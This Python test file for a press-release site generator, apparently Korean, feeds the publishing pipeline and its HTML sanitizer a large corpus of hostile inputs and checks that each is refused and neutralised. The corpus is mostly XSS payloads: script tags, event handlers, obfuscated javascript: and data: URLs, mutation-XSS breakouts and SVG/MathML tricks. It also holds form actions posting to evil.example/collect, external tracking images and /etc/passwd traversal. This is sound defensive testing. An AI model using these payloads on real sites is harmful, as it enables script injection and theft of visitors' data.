"""What a careless paste or a stolen writer account can put in a release never
reaches the site.

Each input of CORPUS is written into a release of its own, beside the fixture
site's content. Every one must be refused by `check` and by `build`, with its
file named; the build must leave the previous output/ byte-identical and print
no traceback; and, fed straight to the sanitizer that every published body
passes through, each comes out with no script and no active element, as an
independent HTML5 parser (html5lib, not the one the project uses) reads it.
"""

import re
import sys

import html5lib
import pytest

from conftest import FIXTURE, ROOT, copy_fixture_content, run_build, tree_digest

from pressroom.commands import load_settings
from pressroom.render.policy import Sanitizer
from pressroom.reading import read_content
from pressroom.render.body import convert_markdown
from pressroom.render.cache import RenderCache

EVIL = "https://evil.example"

# (id, body): raw HTML or Markdown in a release's body.
BODY_CASES = [
    ("script", "<script>alert(1)</script>"),
    ("script-src-uppercase", f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>"),
    ("script-in-paragraph", "<p>보도 <script>alert(1)</script> 내용</p>"),
    ("img-onerror", '<img src="images/2023/beta-forum.png" alt="사진" onerror="alert(1)">'),
    ("p-onclick", '<p onclick="steal()">보도</p>'),
    ("a-onmouseover", '<a href="https://example.com/" onmouseover="alert(1)">자세히</a>'),
    ("details-ontoggle", '<details open ontoggle="alert(1)">x</details>'),
    ("body-onload", '<body onload="alert(1)">'),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("input-image-onerror", "<input type=image src=x onerror=alert(1)>"),
    ("javascript-href", '<a href="javascript:alert(1)">자세히</a>'),
    ("javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">자세히</a>'),
    ("javascript-leading-space", '<a href=" javascript:alert(1)">자세히</a>'),
    ("javascript-tab-entity", '<a href="java&#x09;script:alert(1)">자세히</a>'),
    ("javascript-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">자세히</a>'),
    ("javascript-decimal-entities", '<a href="&#106;&#97;&#118;&#97;script:alert(1)">자세히</a>'),
    ("javascript-entities-no-semicolon",
     '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
     '&#0000058alert(1)">자세히</a>'),
    ("javascript-hex-entities-colon", '<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">자세히</a>'),
    ("javascript-control-prefix", '<a href="&#x01;javascript:alert(1)">자세히</a>'),
    ("vbscript-href", '<a href="vbscript:msgbox(1)">자세히</a>'),
    ("data-html-href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">자세히</a>'),
    ("data-html-href-plain", '<a href="data:text/html,<script>alert(1)</script>">자세히</a>'),
    ("file-href", '<a href="file:///etc/passwd">자세히</a>'),
    ("protocol-relative-href", '<a href="//evil.example/login">로그인</a>'),
    ("backslash-host-href", r'<a href="\\evil.example\login">로그인</a>'),
    ("markdown-javascript-link", "[자세히](javascript:alert(1))"),
    ("markdown-javascript-link-title", '[자세히](javascript:alert(1) "제목 (수)")'),
    ("reference-javascript-link", "[자세히][evil]\n\n[evil]: javascript:alert(1)"),
    ("reference-javascript-link-title", '[자세히][evil]\n\n[evil]: javascript:alert(1) "제목"'),
    ("reference-data-link", "[자세히][evil]\n\n[evil]: data:text/html,x"),
    ("markdown-javascript-image", "![사진](javascript:alert(1))"),
    ("external-image", f"![사진]({EVIL}/track.png)"),
    ("external-image-title-paren", f'![사진](images/2023/beta-forum.png "사진 (수)") ![추적]({EVIL}/t.png "(목)")'),
    ("reference-external-image", f"![사진][pic]\n\n[pic]: {EVIL}/track.png"),
    ("reference-external-image-title", f'![사진][pic]\n\n[pic]: {EVIL}/track.png "설명 (수)"'),
    ("protocol-relative-image", "![사진](//evil.example/track.png)"),
    ("image-path-traversal", '<img src="images/../../../etc/passwd" alt="사진">'),
    ("image-srcset", f'<img src="images/2023/beta-forum.png" alt="사진" srcset="{EVIL}/t.png 1x">'),
    ("image-data-svg", '<img alt="사진" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("comment-opened-short", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-opened-dash", "<!---><script>alert(1)</script>-->"),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("textarea-breakout", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    ("title-in-body", "<title><img src=x onerror=alert(1)></title>"),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>'),
    ("svg-animate-href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>x</a></svg>'),
    ("svg-onload", '<svg onload="alert(1)"></svg>'),
    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-style-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    ("base-href", f'<base href="{EVIL}/">'),
    ("form-action", f'<form action="{EVIL}/collect"><input name="pw"><button>보내기</button></form>'),
    ("button-formaction", f'<button formaction="{EVIL}/collect">보내기</button>'),
    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
    ("style-element", "<style>body { display: none }</style>"),
    ("style-attribute-url", f'<p style="background: url({EVIL}/t.png)">보도</p>'),
    ("style-attribute-overlay", '<p style="position:fixed;top:0;left:0;width:100%;height:100%">보도</p>'),
    ("style-attribute-on-cell",
     f'<table><tr><td style="text-align: left; background: url({EVIL}/t.png)">1</td></tr></table>'),
    ("link-stylesheet", f'<link rel="stylesheet" href="{EVIL}/x.css">'),
    ("iframe-not-allowed", f'<iframe src="{EVIL}/" title="영상"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>" title="x"></iframe>'),
    ("object", f'<object data="{EVIL}/x.swf"></object>'),
    ("embed", f'<embed src="{EVIL}/x.swf">'),
    ("attr-list-onclick", '보도 내용\n{: onclick="alert(1)" }'),
    ("attr-list-style", '보도 내용\n{: style="color: red" }'),
    ("md-in-html-javascript", '<div markdown="1">[자세히](javascript:alert(1))</div>'),
    ("target-blank-tabnabbing", '<a href="https://example.com/" target="_blank">자세히</a>'),
    ("a-ping-tracking", f'<a href="https://example.com/" ping="{EVIL}/track">자세히</a>'),
    ("blockquote-cite-javascript", '<blockquote cite="javascript:alert(1)">인용</blockquote>'),
    ("dom-clobbering-id", '<p id="search">보도</p>'),
    ("dom-clobbering-name", '<img name="getElementById" src="images/2023/beta-forum.png" alt="사진">'),
    ("control-character-in-text", "보도\x08 내용"),
    ("control-character-in-attribute", '<abbr title="a&#x1;b">HTML</abbr>'),
    ("noncharacter-in-text", "보도 &#xfffe; 내용"),
    ("filename-link-not-a-file", "[자세히]({filename}nothing)"),
    ("filename-link-without-extension", "[자세히]({filename}../2022/alpha-talks.ko)"),
    ("filename-link-outside-content", "[자세히]({filename}/../../../../../../etc/hostname)"),
    ("filename-link-fragment-only", "[자세히]({filename}#x)"),
    ("deeply-nested-lists", "- " * 500 + "x"),
    ("deeply-nested-inline", "<b>" * 2000 + "x"),
    ("unbroken-run", "A1" * 30000 + "a"),
    ("iframe-with-content", f'<iframe src="{EVIL}/" title="v"><img src=x onerror=alert(1)></iframe>'),
]

HEADER = ("Title: 적대적 입력 {n}\nDate: 2023-06-01 10:00\nCategory: bilateral\nDepartment: spokesperson\n"
          "Number: 23-9{n:03d}\n")
# (id, header lines put below the valid ones above, before the blank line).
HEADER_CASES = [
    ("lone-carriage-return", "Summary: 요약\r<script>alert(1)</script>"),
    ("lone-carriage-return-blank-line", "Summary: 요약\r\r<script>alert(1)</script>"),
    ("space-before-colon", "Contact : <script>alert(1)</script>"),
    ("tab-before-colon", "Contact\t: 대변인실"),
    ("full-width-colon", "Tags：<script>alert(1)</script>"),
    ("line-without-colon", "Tags 외교 <script>alert(1)</script>"),
    ("indented-field", "    Status: draft"),
    ("vertical-tab-in-value", "Summary: 요약\x0bStatus: draft"),
    ("line-separator-in-value", "Summary: 요약\u2028<script>alert(1)</script>"),
    ("nul-in-value", "Summary: 요약\x00"),
    ("noncharacter-in-value", "Summary: 요약 \uffff"),
    ("tag-too-long", "Tags: " + "가" * 90),
    ("unbroken-summary", "Summary: " + "A1" * 30000),
]

CASES = [(f"body-{id}", "body", text) for id, text in BODY_CASES] + \
        [(f"header-{id}", "header", text) for id, text in HEADER_CASES]


def case_file(n, kind, text):
    """The whole release file of one case."""
    if kind == "header":
        return HEADER.format(n=n) + text + "\n\n□ 외교부는 오늘 회의를 열었다.\n"
    return HEADER.format(n=n) + "\n□ 외교부는 오늘 회의를 열었다.\n\n" + text + "\n"


def case_path(n):
    return f"releases/2023/hostile-{n:03d}.ko.md"


@pytest.fixture(scope="module")
def hostile_content(tmp_path_factory):
    content = copy_fixture_content(tmp_path_factory.mktemp("hostile"))
    for n, (_id, kind, text) in enumerate(CASES):
        (content / case_path(n)).write_bytes(case_file(n, kind, text).encode("utf-8"))
    return content


@pytest.fixture(scope="module")
def settings(hostile_content):
    return load_settings(str(FIXTURE / "fixtureconf.py"), str(hostile_content))


def test_the_corpus_is_large_and_every_case_is_distinct():
    assert len(CASES) >= 60
    assert len({id for id, _kind, _text in CASES}) == len(CASES)
    assert len({text for _id, _kind, text in CASES}) == len(CASES)


def test_every_case_is_a_problem_of_its_own_file(hostile_content, settings):
    cache = RenderCache(None, settings)
    reading = read_content(str(hostile_content), settings, cache)
    cache.finish()
    named = {problem.path for problem in reading.problems}
    unrefused = [id for n, (id, _kind, _text) in enumerate(CASES)
                 if not any(path.endswith(case_path(n)) for path in named)]
    assert unrefused == []
    fixture_files = [path for path in named if "hostile-" not in path]
    assert fixture_files == [], "the intact fixture files must have no problems"


def output_lines_naming(output, content, n):
    named = re.escape(str(content / case_path(n)))
    return [line for line in output.splitlines() if re.match(rf"^{named}:\d+: [^:]+: .+ — .+", line)]


def test_check_refuses_every_case_naming_its_file(hostile_content):
    result = subprocess_check(hostile_content)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    missing = [id for n, (id, _k, _t) in enumerate(CASES) if not output_lines_naming(result.stderr, hostile_content, n)]
    assert missing == [], result.stderr


def subprocess_check(content):
    import os
    import subprocess
    return subprocess.run([sys.executable, "-m", "pressroom", "check", "--settings", str(FIXTURE / "fixtureconf.py"),
                           "--content", str(content), "--cache", "none"], cwd=ROOT, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(ROOT / "plugins"), "COLUMNS": "400"})


def test_build_refuses_every_case_and_keeps_the_previous_site(hostile_content, tmp_path):
    output = tmp_path / "output"
    first = run_build(FIXTURE / "content", output, FIXTURE / "fixtureconf.py")
    assert first.returncode == 0, first.stderr
    before = tree_digest(output)

    result = run_build(hostile_content, output, FIXTURE / "fixtureconf.py")

    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    missing = [id for n, (id, _k, _t) in enumerate(CASES) if not output_lines_naming(result.stderr, hostile_content, n)]
    assert missing == [], result.stderr
    assert tree_digest(output) == before, "the previous output was changed"


# -- the sanitizer, read by an independent parser ------------------------------

ACTIVE_ELEMENTS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
                   "button", "textarea", "select", "meta", "base", "link", "svg", "math", "noscript", "template",
                   "isindex", "xmp", "title", "video", "audio", "source", "details", "marquee", "body"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "cite", "poster", "background", "ping", "srcset"}


def browser_scheme(value):
    """The scheme a browser finds in an attribute value (WHATWG URL: strip
    C0 controls and spaces, drop tabs and newlines), written here again on
    purpose, apart from the project's own reading."""
    value = "".join(c for c in value.strip("".join(map(chr, range(0x21)))) if c not in "\t\n\r")
    match = re.match(r"^([A-Za-z][A-Za-z0-9+.-]*):", value)
    return match[1].lower() if match else None


def active_parts(html_text):
    """Everything active in `html_text` as a browser's parser builds it."""
    found = []
    tree = html5lib.parseFragment(html_text, treebuilder="etree", namespaceHTMLElements=True)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        namespace, _, name = element.tag[1:].partition("}") if element.tag.startswith("{") else ("", "", element.tag)
        if name == "DOCUMENT_FRAGMENT":
            continue
        if namespace != "http://www.w3.org/1999/xhtml" or name in ACTIVE_ELEMENTS:
            found.append(f"<{name}>")
        for attribute, value in element.attrib.items():
            attribute = attribute if isinstance(attribute, str) else attribute[1]
            if attribute.lower().startswith("on") or attribute in ("style", "srcdoc", "target", "id", "name", "ping"):
                found.append(f"{name} {attribute}=")
            if attribute in URL_ATTRIBUTES and browser_scheme(value) not in (None, "http", "https", "mailto", "tel"):
                found.append(f"{name} {attribute}={value!r}")
            if attribute == "href" and value.strip().replace("\\", "/").startswith("//"):
                found.append(f"{name} href={value!r} to another host")
            if name == "img" and attribute == "src" and not value.startswith("/images/"):
                found.append(f"img src={value!r} from outside the site")
    return found


def rendered_forms(settings, text):
    """`text` itself and as Markdown renders it (Markdown gives up on some
    inputs with RecursionError, which the build reports as a problem)."""
    try:
        return [text, convert_markdown(text, settings)]
    except RecursionError:
        return [text]


# Body cases that are no script or foreign load even as a browser reads
# them: they are refused for what they would break or hide.
NOT_ACTIVE = [
    "body-onload",  # html5lib parses a fragment, which drops it; a browser gives it to the page
    "control-character-in-text", "control-character-in-attribute", "noncharacter-in-text",  # break feeds
    "filename-link-not-a-file", "filename-link-without-extension", "filename-link-outside-content",
    "filename-link-fragment-only",  # {filename} links that name no file of the site
    "deeply-nested-lists", "deeply-nested-inline",  # exhaust the tools' recursion
    "unbroken-run",  # takes typogrify time with the square of its length
]


def test_the_independent_reading_sees_what_the_corpus_attempts(settings):
    """The control for the test below: without the sanitizer, the same
    reading finds something active in every body case but those of
    NOT_ACTIVE, in the case's text or as Markdown renders it."""
    inactive = [id for id, text in BODY_CASES
                if not any(active_parts(form) for form in rendered_forms(settings, text))]
    assert inactive == NOT_ACTIVE


@pytest.mark.parametrize("n", range(len(CASES)), ids=[id for id, _kind, _text in CASES])
def test_the_sanitizer_leaves_nothing_active(n, settings):
    """Both the case as it is and the whole file as Markdown renders it, with
    no header reader at all, come out of the sanitizer inert."""
    _id, kind, text = CASES[n]
    sanitize = Sanitizer(settings)
    for html_text in (text, *rendered_forms(settings, case_file(n, kind, text))[1:]):
        cleaned = sanitize(html_text)
        assert active_parts(cleaned) == [], cleaned


def test_safe_lookalikes_are_accepted(tmp_path, settings):
    """No false alarm on what releases really contain: script shown as code,
    a javascript: address in prose, tables with aligned columns, footnotes,
    abbreviations, a quote, mail and phone links and a {filename} link."""
    content = copy_fixture_content(tmp_path)
    (content / case_path(999)).write_text(HEADER.format(n=999) + "\n" + "\n\n".join([
        "□ 보도 예시: `<script>alert(1)</script>` 는 코드로 보인다.",
        "```html\n<script>alert(1)</script>\n<iframe src=\"https://evil.example/\"></iframe>\n```",
        "Writers sometimes quote javascript:alert(1) in prose, and that is text.",
        "표: 회의 일정\n\n| 구분 | 일시 |\n|:--|--:|\n| 회의 | 5. 2.(목) |",
        "본문에 각주가 있다.[^1] HTML 은 약어다.\n\n*[HTML]: HyperText Markup Language",
        "> 인용문이다.",
        "문의: <mailto:press@example.go.kr>, [전화](tel:+82-2-2100-7777), "
        "[관련 보도]({filename}/releases/2023/beta-forum.ko.md), <https://www.mofa.go.kr/>",
        "[^1]: 각주 내용.",
    ]) + "\n", encoding="utf-8")
    settings = load_settings(str(FIXTURE / "fixtureconf.py"), str(content))
    cache = RenderCache(None, settings)
    reading = read_content(str(content), settings, cache)
    cache.finish()
    assert reading.problems == []


def test_the_control_character_pattern_is_unicodes_definition():
    """CONTROL_CHARACTER is written as ranges for speed; it must be exactly
    the characters of categories Cc, Zl and Zp but tab, newline and CR, and
    Unicode's 66 noncharacters."""
    import unicodedata
    from pressroom.content.text import CONTROL_CHARACTER
    noncharacters = set(range(0xFDD0, 0xFDF0)) | {plane + last for plane in range(0, 0x110000, 0x10000)
                                                  for last in (0xFFFE, 0xFFFF)}
    assert len(noncharacters) == 66
    expected = {chr(c) for c in range(0x110000)
                if unicodedata.category(chr(c)) in ("Cc", "Zl", "Zp") and chr(c) not in "\t\n\r"
                or c in noncharacters}
    assert {chr(c) for c in range(0x110000) if CONTROL_CHARACTER.match(chr(c))} == expected


def test_a_body_markdown_gives_up_on_does_not_garble_the_next(settings):
    """A conversion that ends in RecursionError leaves Python-Markdown's
    parser state behind; the next file of the same worker must render as
    if it were the first."""
    normal = case_file(0, "body", '보도 내용\n{: title="제목" }')
    expected = convert_markdown(normal, settings)
    with pytest.raises(RecursionError):
        convert_markdown("- " * 500 + "x", settings)
    assert convert_markdown(normal, settings) == expected


def test_an_iframe_from_the_allowlist_is_published_and_one_with_content_is_not(tmp_path):
    content = copy_fixture_content(tmp_path)
    conf = tmp_path / "embedconf.py"
    conf.write_text(f"import sys\nsys.path.insert(0, {str(FIXTURE)!r})\nfrom fixtureconf import *\n"
                    "PRESSROOM_EMBED_ALLOWLIST = ['https://www.youtube-nocookie.com/embed/']\n")
    settings = load_settings(str(conf), str(content))
    frame = '<iframe src="https://www.youtube-nocookie.com/embed/{}" title="브리핑 영상">{}</iframe>'
    bodies = {998: frame.format("abc", ""), 997: frame.format("abc", "<img src=x onerror=alert(1)>"),
              996: frame.format("../../evil", ""), 995: frame.format("%2e%2e/evil", "")}
    for n, body in bodies.items():
        (content / case_path(n)).write_text(case_file(n, "body", body), encoding="utf-8")
    cache = RenderCache(None, settings)
    reading = read_content(str(content), settings, cache)
    cache.finish()
    refused = {n for n in bodies if any(p.path.endswith(case_path(n)) for p in reading.problems)}
    assert refused == {997, 996, 995}
    assert Sanitizer(settings)(frame.format("abc", "")) == frame.format("abc", "")
    assert "src" not in Sanitizer(settings)(frame.format("../../evil", ""))
